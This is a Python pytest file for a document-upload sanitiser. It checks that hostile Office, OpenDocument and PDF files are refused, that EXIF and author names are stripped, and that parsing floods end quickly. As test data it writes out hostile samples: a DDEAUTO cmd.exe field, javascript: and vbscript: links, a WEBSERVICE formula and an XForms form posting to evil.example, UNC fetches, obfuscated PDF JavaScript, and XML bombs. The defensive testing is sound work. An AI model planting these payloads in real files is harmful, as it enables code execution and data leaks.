"""What attackers tried on files: each is refused with its reason, or kept without what it meant to bring along."""

from __future__ import annotations

import base64
import random
import struct
import time
import zlib
from collections.abc import Callable
from io import BytesIO

import openpyxl
import pikepdf
import pytest
from openpyxl.comments import Comment
from PIL import Image

from compact_portal.kit import files
from compact_portal.kit.files import EVERYTHING, JPEG, PNG, WEBP, pictures
from compact_portal.kit.files.texts import words_of
from compact_portal.kit.refusals import Refusal
from tests.compact_portal.kit.hostile_files import (
    BASE,
    SCRIPTED,
    changed,
    font,
    hidden_table,
    packed,
    page,
    raw,
    stream,
    unfolded,
    with_form,
    with_photograph,
)
from tests.compact_portal.kit.office_files import (
    WORD,
    W,
    body,
    old_office,
    open_file,
    open_parts,
    parts_of,
    relations,
    sheet_file,
    show_file,
    types,
    word_parts,
    zipped,
)
from tests.compact_portal.kit.test_files import EVIL, _action, _annotation, camera, document, picture
from tests.compact_portal.kit.test_office import _drawing, _field, _simple_field, given, why, word

Name, Dictionary, String, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.String, pikepdf.Array
DDE = body('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>')
PHOTOGRAPH = picture(JPEG, exif=camera())
CAMERA = b"ACME-CAMERA"


def _elsewhere(name: str, inside: str = DDE) -> bytes:
    """A Word document whose main part lies where no program of Microsoft's puts it."""
    parts = word_parts(**{"[Content_Types].xml": types({f"/{name}": WORD}), name: inside})
    parts["_rels/.rels"] = relations(("officeDocument", name, ""))
    del parts["word/document.xml"]
    return zipped(parts)


def _table(**more: bytes | str) -> bytes:
    return zipped({**parts_of(sheet_file()), **more})


def _ods(inside: str) -> bytes:
    return open_file("spreadsheet", inside)


_XFORMS = '<x:submission xmlns:x="http://www.w3.org/2002/xforms" action="https://evil.example/" method="post"/>'
_PANE = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
_SQL = '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=evil"/></w:mailMerge>'
_FETCH = "WEBSERVICE(&quot;https://evil.example&quot;)"

REFUSED: dict[str, tuple[bytes, str]] = {
    # Office: a part is looked at wherever it lies and whatever it is called.
    "the main part elsewhere": (_elsewhere("doc/document.xml"), "fetches"),
    "the main part called an image": (_elsewhere("word/document.png"), "another file"),
    "two families in one file": (zipped(open_parts() | word_parts(**{"word/document.xml": DDE}), stored=("mimetype",)), "damaged"),
    "a program called an image": (word(**{"word/media/a.emf": b"MZ\x90" + b"\0" * 99}), "another file"),
    "an archive called an image": (word(**{"word/media/a.png": zipped({"a": "a"})}), "another file"),
    "a page called an image": (word(**{"word/media/a.png": EVIL}), "another file"),
    "macros called an image": (word(**{"word/media/a.png": old_office()}), "another file"),
    "a PDF called an image": (word(**{"word/media/a.jpg": document()}), "another file"),
    "a page called a font": (word(**{"word/fonts/a.ttf": b" \n<script>"}), "another file"),
    "a program in an OpenDocument": (open_file(**{"Pictures/a.png": "MZ" + "\0" * 99}), "another file"),
    # Fields and links.
    "a link by a field": (_field(' HYPERLINK "file:///c:/windows/cmd.exe"'), "opens a file"),
    "a link by a field to a machine": (_field(' HYPERLINK "\\\\\\\\evil\\\\share"'), "opens a file"),
    "a link by a field without quotes": (_field(" HYPERLINK javascript:alert(1)"), "opens a file"),
    "a link by a field never closed": (_field(' HYPERLINK "javascript:alert(1)'), "opens a file"),
    "a link by a simple field": (_simple_field('w:instr="HYPERLINK &quot;vbscript:x&quot;"'), "opens a file"),
    "a document by reference": (_field(' RD "\\\\\\\\evil\\\\x.docx"'), "fetches"),
    "a document included": (_field(' INCLUDE "\\\\\\\\evil\\\\x.docx"'), "fetches"),
    "a link on a drawing": (word(**{"word/document.xml": body('<v:shape href="file:///c:/x.exe"/>')}), "opens a file"),
    "an image of VML": (word(**{"word/document.xml": body('<v:image src="https://evil.example/x.png"/>')}), "fetches"),
    "letters from a database": (word(**{"word/settings.xml": body(_SQL)}), "fetches"),
    "a pane that loads itself": (
        word(**{"_rels/.rels": relations(("officeDocument", "word/document.xml", "")).replace(
            "</Relationships>", f'<Relationship Id="q" Type="{_PANE}" Target="p.xml"/></Relationships>')}), "button"),
    # Formulas where none is looked for.
    "a column's formula": (_table(**{"xl/tables/table1.xml": f"<table><calculatedColumnFormula>{_FETCH}</calculatedColumnFormula></table>"}), "fetches"),
    "a formula with a prefix": (_table(**{"xl/odd.xml": f"<x:a xmlns:x='x'><x:f>{_FETCH}</x:f></x:a>"}), "fetches"),
    "a named expression": (_ods(f'<table:named-expression table:expression="of:={_FETCH}"/>'), "fetches"),
    "a condition": (_ods(f'<table:content-validation table:condition="of:cell-content()={_FETCH}"/>'), "fetches"),
    # OpenDocument.
    "a macro by a field": (open_file(inside='<text:execute-macro text:name="Standard.M.Main"/>'), "macros"),
    "a form that sends": (open_file(inside=_XFORMS), "button"),
    "a listener in the settings": (open_file(**{"settings.xml": '<o xmlns:s="s"><s:event-listener/></o>'}), "macros"),
    "rows of a database": (open_file(inside='<form:database-source-table xmlns:form="f"/>'), "fetches"),
    # XML that says one thing to whoever searches it and another to a program.
    "UTF-7": (word(**{"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-+ADw-/a+AD4-'}), "damaged"),
    "EBCDIC": (word(**{"word/document.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")}), "damaged"),
    "UTF-16": (word(**{"word/document.xml": "<a/>".encode("utf-16")}), "damaged"),
    "UTF-16 without a mark": (word(**{"word/document.xml": "<a/>".encode("utf-16-be")}), "damaged"),
    "a deep nest": (word(**{"word/document.xml": "<a>" * 100_000 + "</a>" * 100_000}), "damaged"),
    "entities in an attribute": (word(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a d="&b;"/>'}), "damaged"),
    "a list of parts without end": (word(**{"word/_rels/document.xml.rels": "<R>" + "<a/>" * 600_000 + "</R>"}), "unfolds"),
    "a directory that leads upwards": (word(**{"word/../../x.xml": "<x/>"}), "damaged"),
    "turned reading direction": (word(**{"word/\u202elmx.png": b"x"}), "damaged"),
    # PDF.
    "a script by another spelling": (raw(BASE | {1: SCRIPTED}), "script"),
    "a script in a later version": (changed(raw(BASE), 1, SCRIPTED), "script"),
    "a script behind a second table": (hidden_table(), "script"),
    "a script after the beginning": (raw(BASE | {1: SCRIPTED.replace(b"/J#61vaScript", b"/GoTo")}), "script"),
    "a script in a stream of objects": (packed(b"<</S/JavaScript/JS(1)>>"), "script"),
    "a page of another file": (with_form(Ref=Dictionary(F=String("\\\\evil\\x.pdf"), Page=0)), "open another file"),
    "an image of another file": (with_form(OPI=Dictionary({"/2.0": Dictionary(F=String("\\\\evil\\x.tif"))})), "open another file"),
    "a program for printers": (with_form(Subtype=Name.PS), "script"),
    "a link in UTF-8": (document(_action("URI", URI=String(b"\xef\xbb\xbffile:///x"))), "open another file"),
    "a link in UTF-16": (document(_action("URI", URI=String(b"\xff\xfe" + "file:///x".encode("utf-16-le")))), "open another file"),
    "a film by its action": (document(_action("RichMediaExecute")), "film"),
    "a form in a stream of objects": (packed(b"<</XFA[(a)(b)]>>"), "sends"),
    "a page before the mark": (EVIL + document(), "not a kind of file"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_was_tried_is_refused_with_its_reason(content: bytes, reason: str) -> None:
    assert reason in why(content)


@pytest.mark.parametrize(
    "code", [' HYPERLINK "https://vesterhaven.example/" \\o "tip"', ' HYPERLINK \\l "part2"', " PAGE "]
)
def test_fields_that_lead_to_the_web_or_within_do_no_harm(code: str) -> None:
    assert given(_field(code)).content


# What tells of people and places


def _photo(content: bytes, name: str = "word/media/image1.png") -> bytes:
    return word(**{name: content})


def _tiff(**options: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", (40, 30), (9, 8, 7)).save(out, "TIFF", **options)
    return out.getvalue()


def _gif() -> bytes:
    out = BytesIO()
    frames = [Image.new("P", (40, 30), colour) for colour in (1, 2)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=CAMERA, loop=0)
    return out.getvalue()


def _jpeg_2000() -> bytes:
    out = BytesIO()
    Image.new("RGB", (40, 30)).save(out, "JPEG2000")
    made, box = out.getvalue(), b"uuid" + b"JpgTiffExif->JP2" + CAMERA
    at = 12 + struct.unpack(">I", made[12:16])[0]
    return made[:at] + struct.pack(">I", len(box) + 4) + box + made[at:]


_FILLED = PHOTOGRAPH[:2] + PHOTOGRAPH[2:].replace(b"\xff\xe1", b"\xff\xff\xff\xe1", 1)
_SECOND = picture(JPEG) + PHOTOGRAPH
_THUMBNAIL = picture(JPEG)[:20] + b"\xff\xe0\x00\x13JFXX\x00\x13" + CAMERA + picture(JPEG)[20:]

PICTURED: dict[str, bytes] = {
    "a photograph called PNG": _photo(PHOTOGRAPH),
    "EXIF in a PNG": _photo(picture(PNG, exif=camera())),
    "EXIF in a WebP": _photo(picture(WEBP, exif=camera()), "word/media/image1.webp"),
    "EXIF in a TIFF": _photo(_tiff(exif=camera()), "word/media/image1.tif"),
    "a comment in a GIF": _photo(_gif(), "word/media/image1.gif"),
    "a second photograph behind": _photo(_SECOND, "word/media/image1.jpg"),
    "filled up before the mark": _photo(_FILLED, "word/media/image1.jpg"),
    "a small picture inside": _photo(_THUMBNAIL, "word/media/image1.jpg"),
    "in an OpenDocument": zipped(open_parts() | {"Pictures/1.png": PHOTOGRAPH}, stored=("mimetype",)),
    "in a PDF, packed twice": with_photograph(Array([Name.FlateDecode, Name.DCTDecode]), zlib.compress(PHOTOGRAPH)),
    "in a PDF, as letters": with_photograph(Array([Name.ASCII85Decode, Name.DCTDecode]), base64.a85encode(PHOTOGRAPH) + b"~>"),
    "in a PDF, as digits": with_photograph(Array([Name.ASCIIHexDecode, Name.DCTDecode]), PHOTOGRAPH.hex().encode() + b">"),
    "in a PDF, by a short name": raw(BASE | {4: b"[5 0 R]", 1: BASE[1].replace(b"/Pages", b"/Odd 4 0 R/Pages"), 5: stream(
        b"/Subtype/Image/Width 40/Height 30/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCT", PHOTOGRAPH)}),
    "in a PDF, a second behind": with_photograph(Name.DCTDecode, _SECOND),
    "in a PDF, filled up": with_photograph(Name.DCTDecode, _FILLED),
    "in a PDF, a small one inside": with_photograph(Name.DCTDecode, _THUMBNAIL),
    "in a PDF, amid what a page draws": page(b"q BI /W 40 /H 30 /CS /RGB /BPC 8 /F /DCT ID " + PHOTOGRAPH + b"\nEI Q", b""),
    "in a PDF, as JPEG 2000": with_photograph(Name.JPXDecode, _jpeg_2000()),
}  # fmt: skip


@pytest.mark.parametrize("content", PICTURED.values(), ids=PICTURED)
def test_what_a_camera_wrote_is_gone_however_it_was_packed(content: bytes) -> None:
    kept = given(content).content
    held = unfolded(kept) if kept.startswith(b"%PDF") else b"".join(parts_of(kept).values())
    assert CAMERA not in held and CAMERA.hex().encode() not in held


@pytest.mark.parametrize(
    "content",
    [PHOTOGRAPH, _SECOND, _FILLED, _THUMBNAIL, picture(PNG, exif=camera()), picture(PNG, "P"), picture(WEBP, exif=camera()),
     picture(WEBP, "RGBA"), _gif(), _tiff(exif=camera()), _tiff(compression="jpeg"), picture(JPEG, progressive=True)],
    ids=range(12),
)  # fmt: skip
def test_the_picture_itself_stays_as_it_was(content: bytes) -> None:
    before, after = Image.open(BytesIO(content)), Image.open(BytesIO(pictures.plain(content)))
    assert (before.size, before.convert("RGBA").tobytes()) == (after.size, after.convert("RGBA").tobytes())
    assert getattr(before, "n_frames", 1) in (1, getattr(after, "n_frames", 1))


def _noted() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "x"
    book.active["A1"].comment = Comment("a note", "Karen Holm")
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _place() -> bytes:
    place = b'<fileSharing userName="Karen"/><x15ac:absPath url="C:\\Users\\Karen\\" xmlns:x15ac="x"/><bookViews'
    parts = parts_of(sheet_file())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<bookViews", place)
    parts["xl/persons/person.xml"] = (
        b'<personList><person displayName="Karen Holm" userId="Karen@x" id="1"/></personList>'
    )
    return zipped(parts)


def _signed(pdf: pikepdf.Pdf) -> None:
    signature = Dictionary(
        Type=Name.Sig, Name=String("Karen Holm"), Location=String("Karen's desk"), ByteRange=[0, 1, 2, 3],
        Contents=String(b"certificate of Karen"),
    )  # fmt: skip
    pdf.Root.Odd = pdf.make_indirect(signature)


def _thumbnail(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.Thumb = pdf.make_stream(b"Karen", Width=5, Height=1, BitsPerComponent=8)


_CUSTOM = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
_INS = '<x:document xmlns:x="%s"><x:ins x:author="Karen Holm"/></x:document>' % W  # noqa: UP031
_PRINTER = '<o xmlns:config="c"><config:config-item config:name="PrinterName" a="b">Karen’s</config:config-item></o>'
NAMED: dict[str, bytes] = {
    "a change in single quotes": word(**{"word/document.xml": body("<w:ins w:author='Karen Holm' w:initials='Karen'/>")}),
    "a change with blanks": word(**{"word/document.xml": body('<w:ins w:author = "Karen Holm"/>')}),
    "a change by another prefix": word(**{"word/document.xml": _INS}),
    "properties that no list names": word(**{"docProps/core.xml": "<p>Karen</p>", "docProps/app.xml": "<p>Karen</p>"}),
    "properties in large letters": word(**{
        "[Content_Types].xml": types({"/word/document.xml": WORD, "/DOCPROPS/C.xml": _CUSTOM}), "docProps/c.xml": "<p>Karen</p>"}),
    "a note in a table": _noted(),
    "the author's machine and persons of a table": _place(),
    "authors of a presentation": zipped({**parts_of(show_file()), "ppt/commentAuthors.xml":
        '<p:cmAuthorLst xmlns:p="p"><p:cmAuthor id="0" name="Karen Holm" initials="Karen"/></p:cmAuthorLst>'}),
    "a creator with an attribute": open_file(inside='<dc:creator xml:id="x">Karen</dc:creator><text:p/>'),
    "a creator by another prefix": open_file(inside='<q:creator xmlns:q="q">Karen</q:creator>'),
    "a printer": open_file(**{"settings.xml": _PRINTER}),
    "a note in a PDF": document(lambda pdf: _annotation(pdf, Subtype=Name.Text, T=String("Karen"), Contents=String("x"))),
    "who signed a PDF": document(_signed),
    "a page as it once was": document(_thumbnail),
    "beside the root of a PDF": raw(BASE, trailer=b"/Odd(Karen)/Info<</Author(Karen)>>/ID[(Karen)(Karen)]"),
    "an object nothing leads to": raw(BASE | {4: b"(Karen)"}),
    "an earlier version": changed(page(b"(Karen)Tj", b""), 4, stream(b"", b"(x)Tj")),
}  # fmt: skip


@pytest.mark.parametrize("content", NAMED.values(), ids=NAMED)
def test_who_wrote_it_is_gone(content: bytes) -> None:
    kept = given(content).content
    assert b"Karen" not in (unfolded(kept) if kept.startswith(b"%PDF") else b"".join(parts_of(kept).values()))


def test_a_form_keeps_the_names_of_its_fields() -> None:
    def build(pdf: pikepdf.Pdf) -> None:
        _annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("population"))

    assert b"population" in unfolded(given(document(build)).content)


# Floods: each ends in a moment, refused or kept

_LONG = 300_000


def _scans() -> bytes:
    """A photograph that is drawn over and over."""
    made = picture(JPEG, size=(4_000, 4_000), progressive=True)
    scan = made[made.rindex(b"\xff\xda") : -2]
    return made[:-2] + scan * 500 + b"\xff\xd9"


FLOODS: dict[str, Callable[[], bytes]] = {
    "a photograph drawn over and over": _scans,
    "empty fields": lambda: word(**{"word/document.xml": body("<w:fldChar/>" * _LONG)}),
    "lines of a field": lambda: word(**{"word/document.xml": body(f"<w:instrText>{chr(10) * _LONG}</w:instrText>")}),
    "blanks in a filling": lambda: _drawing(f'<rect fill="url({" " * _LONG}"/>'),
    "blanks in a style": lambda: _drawing(f"<style>url({' ' * _LONG}</style>"),
    "attributes": lambda: word(**{"word/document.xml": "<w " + " ".join(f'a{n}=""' for n in range(40_000)) + "/>"}),
    "namespaces": lambda: word(**{"word/document.xml": "".join(("<w>", *(f'<a xmlns="u{n}"/>' for n in range(40_000)), "</w>"))}),
    "letters of a font": lambda: font(b"beginbfchar" * 45_000),
    "ranges of a font": lambda: font(b"beginbfrange " + b"<0><ffff><41>" * 20_000 + b"endbfrange"),
    "marks in a font": lambda: font(b"beginbfrange " + b"<" * 480_000 + b" endbfrange"),
    "lists in a font": lambda: font(b"beginbfrange " + b"<0><0>[" * 60_000 + b" endbfrange"),
    "a long meaning in a font": lambda: font(b"beginbfrange <0><ffff><" + b"0041" * 100_000 + b"> endbfrange"),
    "filters": lambda: page(b"x", b"/Filter[" + b"/FlateDecode" * 10_000 + b"]"),
    "a loop of pages": lambda: raw(BASE | {2: b"<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>"}),
    "a loop of tables": lambda: raw(BASE).replace(b"/Root", b"/Prev %d/Root" % raw(BASE).index(b"xref\n")),
    "a size that is a lie": lambda: raw(BASE).replace(b"/Size 4", b"/Size 2147483647"),
    "a predictor that is a lie": lambda: page(zlib.compress(b"\0" * 9_000_000),
        b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>"),
}  # fmt: skip


@pytest.mark.parametrize("build", FLOODS.values(), ids=FLOODS)
def test_a_flood_ends_in_a_moment(build: Callable[[], bytes]) -> None:
    """By its own limits, not by those of the process that reads it: those are for what nobody thought of."""
    content, begun = build(), time.process_time()
    try:
        kind, kept = files.cleaned(content, EVERYTHING)
    except Refusal as refusal:
        assert str(refusal)
    else:
        words_of(kept, kind)
    assert time.process_time() - begun < 3


@pytest.mark.parametrize("kind", [PNG, JPEG, WEBP])
def test_damage_in_what_the_camera_wrote_is_no_fault(kind: str) -> None:
    whole, chance = picture(kind, exif=camera()), random.Random(5)
    for _number in range(400):
        hurt = bytearray(whole)
        for _place in range(chance.randint(1, 10)):
            hurt[chance.randrange(4, len(hurt))] = chance.randrange(256)
        try:
            assert files.cleaned(bytes(hurt), files.DOCUMENTS)[1]
        except Refusal as refusal:
            assert str(refusal)


@pytest.mark.parametrize("build", [_gif, _tiff, _jpeg_2000, lambda: PHOTOGRAPH, lambda: picture(WEBP, exif=camera())])
def test_damage_in_a_picture_inside_a_document_is_no_fault(build: Callable[[], bytes]) -> None:
    whole, chance = build(), random.Random(9)
    for _number in range(500):
        hurt = bytearray(whole)
        for _place in range(chance.randint(1, 8)):
            hurt[chance.randrange(3, len(hurt))] = chance.choice((0, 255, chance.randrange(256)))
        del hurt[chance.randrange(4, len(hurt) * 2) :]
        for plain in (pictures.plain, pictures.jpeg_2000, pictures.jpegs_within):
            try:
                assert len(plain(bytes(hurt))) <= len(hurt) + 5_000
            except Refusal as refusal:
                assert str(refusal)


@pytest.mark.parametrize(("kind", "size"), [(WEBP, (4_100, 4_000)), (PNG, (1, 70_000)), (PNG, (70_000, 1))])
def test_an_image_whose_shape_costs_more_than_its_pixels_is_refused(kind: str, size: tuple[int, int]) -> None:
    assert "too many pixels" in why(
        picture(kind, "L", size=size) if kind == PNG else picture(kind, size=size, method=0)
    )
